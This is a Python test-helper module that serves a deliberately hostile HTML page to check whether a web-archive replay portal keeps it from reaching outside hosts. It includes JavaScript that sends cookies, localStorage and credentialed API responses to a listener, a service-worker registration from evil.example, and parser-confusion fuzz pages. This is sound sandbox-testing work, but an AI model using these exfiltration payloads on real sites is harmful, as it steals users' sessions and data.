"""A page that wants out, and servers that hear whatever gets out.

Every attempt has a name of its own, so that a test tells which one succeeded.
"""

import itertools
import random
import re
import select
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

#: What needs no script. `{c}` is the canary, host and port.
STATIC = """
<link rel=stylesheet href=http://{c}/link-css>
<link rel=icon href=http://{c}/link-icon>
<link rel=preload as=image href=http://{c}/link-preload>
<link rel=prefetch href=http://{c}/link-prefetch>
<link rel=manifest href=http://{c}/link-manifest>
<style>@import url(http://{c}/css-import); body {{ background: url(http://{c}/css-url) }}
@font-face {{ font-family: x; src: url(http://{c}/css-font) }} p {{ font-family: x }}</style>
<body background=http://{c}/body-background>
<p>hostile <a id=way href=http://{c}/link-followed>link</a></p>
<img src=http://{c}/img-src><img srcset="http://{c}/img-srcset 1x">
<picture><source srcset=http://{c}/picture-source><img src=data:,></picture>
<svg width=9 height=9><image href=http://{c}/svg-image width=9 height=9 /></svg>
<video src=http://{c}/video-src poster=http://{c}/video-poster></video>
<audio src=http://{c}/audio-src autoplay></audio>
<iframe src=http://{c}/iframe-src></iframe>
<iframe srcdoc="<img src=http://{c}/srcdoc-img>"></iframe>
<object data=http://{c}/object-data></object><embed src=http://{c}/embed-src>
<input type=image src=http://{c}/input-image>
<form id=form action=http://{c}/form-action method=post><input name=x value=y></form>
"""
#: What needs one.
ACTIVE = """
<script src=http://{c}/script-src></script>
<script>
const tell = (name, word) => {{ new Image().src = "http://{c}/" + name + "?" + encodeURIComponent(word); }};
const attempt = (name, deed) => {{ try {{ deed(name); }} catch (problem) {{ console.log(name, problem); }} }};
tell("script-ran", "yes");
attempt("script-cookie", name => tell(name, document.cookie));
attempt("script-storage", name => {{
  localStorage.setItem("evil", "1");
  tell(name, localStorage.getItem("secret"));
}});
attempt("script-fetch", name => fetch("http://{c}/" + name, {{mode: "no-cors"}}));
attempt("script-api", name => fetch("/api/stats", {{credentials: "include"}})
  .then(answer => answer.text()).then(text => tell(name, text)));
attempt("script-xhr", name => {{
  const request = new XMLHttpRequest();
  request.open("GET", "http://{c}/" + name);
  request.send();
}});
attempt("script-beacon", name => navigator.sendBeacon("http://{c}/" + name, "x"));
attempt("script-websocket", name => new WebSocket("ws://{c}/" + name));
attempt("script-eventsource", name => new EventSource("http://{c}/" + name));
attempt("script-import", name => import("http://{c}/" + name));
attempt("script-worker", name => new Worker(URL.createObjectURL(
  new Blob(["fetch('http://{c}/" + name + "', {{mode: 'no-cors'}})"]))));
attempt("script-serviceworker", name => navigator.serviceWorker.register(
  "/replay/20261116055500/http://evil.example/sw.js"));
attempt("script-parent", name => tell(name, parent.document.title));
attempt("script-message", name => parent.postMessage("evil", "*"));
attempt("script-popup", name => open("http://{c}/" + name));
attempt("script-rtc", name => {{
  const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{c}"}}]}});
  peer.createDataChannel("x");
  peer.createOffer().then(offer => peer.setLocalDescription(offer));
}});
attempt("script-preconnect", name => {{
  const link = document.createElement("link");
  link.rel = "preconnect"; link.href = "http://{c}"; document.head.append(link);
}});
setTimeout(() => attempt("script-form", () => document.getElementById("form").submit()), 1500);
setTimeout(() => attempt("script-top", name => {{ top.location = "http://{c}/" + name; }}), 2000);
setTimeout(() => attempt("script-self", name => {{ location = "http://{c}/" + name; }}), 2200);
</script>
"""
#: When the last of it has been tried, and then some.
OVER_S = 3.0
#: A page that goes elsewhere by itself.
RESTLESS = "<meta http-equiv=refresh content='0; url=http://{c}/meta-refresh'><p>restless"
#: Connections nobody asked for are attempts too, only nameless.
HASTY = "<link rel=preconnect href=http://{c}><link rel=dns-prefetch href=http://{c}><p>hasty"


#: Elements whose reading depends on what they stand in.
FICKLE = (
    "svg math mtext mglyph mi annotation-xml desc foreignObject title style textarea noscript xmp noembed "
    "noframes iframe table caption tr td form select option button p a b i nobr h1 li object template body "
    "html head frameset plaintext script"
).split()
LURE = "<a href=http://evil.example/ target=_top>"


def fickle_pages(count: int) -> Iterator[str]:
    """Pages that hide a link where parsers disagree, the same ones every time."""
    chance = random.Random(20261116)
    kinds: list[Callable[[str], str]] = [
        lambda tag: f"<{tag}>",
        lambda tag: f"<{tag}>",
        lambda tag: f"</{tag}>",
        lambda tag: f'<{tag} title="</{chance.choice(FICKLE)}>{LURE}">',
        lambda tag: "<!--",
        lambda tag: "-->",
        lambda tag: "<![CDATA[",
        lambda tag: LURE,
    ]
    yield f"<form><math><mtext></form><form><mglyph><style></math>{LURE}"
    for _ in range(count):
        pieces = [chance.choice(kinds)(chance.choice(FICKLE)) for _ in range(chance.randint(2, 9))]
        yield "".join([*pieces, LURE])


def hostile_page(canary: str) -> str:
    return "<!doctype html><title>hostile</title>" + (STATIC + ACTIVE).format(c=canary)


class Canary:
    """Listens; every connection and every datagram is an escape, named by what it asked for."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.place = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(self._listener.getsockname())
        self._numbers = itertools.count()
        self._heard: dict[int, str] = {}
        for hear in (self._accept, self._receive):
            threading.Thread(target=hear, daemon=True).start()

    @property
    def heard(self) -> set[str]:
        return set(self._heard.values())

    def forget(self) -> None:
        self._heard.clear()

    def close(self) -> None:
        # Shutting down wakes up the threads that wait; closing alone would not.
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._datagrams.close()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            number = next(self._numbers)
            self._heard[number] = "a bare connection"
            threading.Thread(target=self._answer, args=(number, connection), daemon=True).start()

    def _answer(self, number: int, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(3)
            try:
                request = connection.recv(65_536)
            except OSError:
                return
            name = re.match(rb"[A-Z]+ /([^ ?]*)", request)
            if name and number in self._heard:
                self._heard[number] = name[1].decode()
            connection.sendall(b"HTTP/1.1 404 No\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def _receive(self) -> None:
        while True:
            try:
                if self._datagrams.recv(2_000):
                    self._heard[next(self._numbers)] = "script-rtc"
            except OSError:
                return


class Relay:
    """Passes everything on to the portal, and remembers what was asked."""

    def __init__(self, portal_port: int) -> None:
        self._port = portal_port
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._listener.getsockname()[1]}/"
        self._said = bytearray()
        self._threads: list[threading.Thread] = []
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def asked(self) -> list[tuple[str, str]]:
        """Method and target of each request so far."""
        found = re.findall(rb"^([A-Z]+) (/\S*) HTTP/1\.1\r$", bytes(self._said), re.MULTILINE)
        return [(method.decode(), target.decode()) for method, target in found]

    def forget(self) -> None:
        self._said.clear()

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        for thread in self._threads:
            thread.join(10)

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            thread = threading.Thread(target=self._pass_on, args=(client,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _pass_on(self, client: socket.socket) -> None:
        """Both ways, until one side hangs up or we do."""
        with client, socket.create_connection(("127.0.0.1", self._port)) as portal, suppress(OSError):
            while self._listener.fileno() >= 0:
                for source in select.select([client, portal], [], [], 0.2)[0]:
                    piece = source.recv(65_536)
                    if not piece:
                        return
                    if source is client:
                        self._said += piece
                    (portal if source is client else client).sendall(piece)


@contextmanager
def publishing(page: Callable[[], str], fields: Callable[[str], dict[str, str]]) -> Iterator[str]:
    """A server with one page; `fields` are sent with it, and may name the host."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path != "/":
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            for name, value in fields(self.headers["Host"]).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(page().encode())

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
